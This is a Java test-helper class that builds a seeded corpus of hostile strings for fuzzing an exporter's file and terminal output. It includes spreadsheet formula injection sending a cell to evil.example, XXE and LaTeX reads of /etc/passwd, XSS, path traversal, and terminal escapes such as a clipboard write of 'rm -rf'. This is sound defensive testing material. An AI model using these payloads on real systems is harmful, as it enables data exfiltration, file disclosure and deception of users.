package zhai.exchange.writer;

import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// Titles that somebody wrote to break the file that they come to stand in, or the terminal.
public final class HostileTexts {
  private static final List<String> ALL = written();

  private HostileTexts() {}

  public static List<String> all() {
    return ALL;
  }

  /// So many texts put together of these and of characters of all kinds: the same each time.
  public static List<String> any(int count) {
    Random random = new Random(20260104);
    return IntStream.range(0, count).mapToObj(_ -> any(random)).toList();
  }

  private static String any(Random random) {
    return IntStream.rangeClosed(0, random.nextInt(4))
        .mapToObj(_ ->
            switch (random.nextInt(4)) {
              case 0 -> Character.toString(random.nextInt(0x110000));
              case 1 -> Character.toString(random.nextInt(0xA0)).repeat(1 + random.nextInt(3));
              case 2 -> "字 word".substring(random.nextInt(6));
              default -> ALL.get(random.nextInt(ALL.size()));
            })
        .collect(Collectors.joining());
  }

  private static List<String> written() {
    return Stream.of(MarkdownListTest.hostile(), forFiles(), forTerminals())
        .flatMap(List::stream)
        .toList();
  }

  private static List<String> forFiles() {
    return List.of(
        // spreadsheets
        "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "'=1",
        "''=1",
        "a\",\"b",
        "a\r\n=1",
        // references
        "T\r\nER  - \r\nTY  - BOOK",
        "x}\n}\n@book{evil, title={y",
        "{",
        "}",
        "\\input{/etc/passwd}",
        "100% of #1 & $5 ~ a_b^c \\ end",
        "@comment{",
        // markup
        "]]>",
        "<![CDATA[",
        "&#0;&#xFFFE;&lol;",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
        "</content></entry>",
        "--><script>alert(1)</script>",
        "</H3><DL><A HREF=\"javascript:alert(1)\">x</A>",
        // templates and names of files
        "{{title}}{{> x}}",
        "../../etc/passwd",
        "CON",
        "a\u0000b\uD800\uFFFE\u001B[2J",
        "\u202Egpj.exe",
        "长".repeat(400));
  }

  /// Escape sequences of seven and of eight bits, links, clipboards, window titles, lines.
  private static List<String> forTerminals() {
    return List.of(
        "\u001b[31mred\u001b[0m",
        "\u001b]0;title\u0007",
        "\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\",
        "\u001b]52;c;cm0gLXJm\u0007",
        "\u009b2J\u009d0;x\u009c",
        "\u001bP$q\"p\u001b\\",
        "\u001b[?1049h\u001b[6n\u001bc",
        "a\b\b\bzhai: \u007f\u0007\u000e\u000f",
        "progress\rzhai: all is lost\u001b[2K",
        "line\nzhai: The library is damaged.",
        "a\u0085b\u2028c\u2029d\u000be\ff",
        "\u2066abc\u2069\u202dx\u202c\u200fy\u061c",
        "\u200b\u200c\u200d\u2060\ufeff\u00ad",
        "pay" + "\udb40\udc70\udb40\udc61\udb40\udc79" + "pal",
        "e" + "\u0301".repeat(200),
        "\udc00\ud800x\ud83d",
        "\ufff9a\ufffab\ufffb\u206f");
  }
}
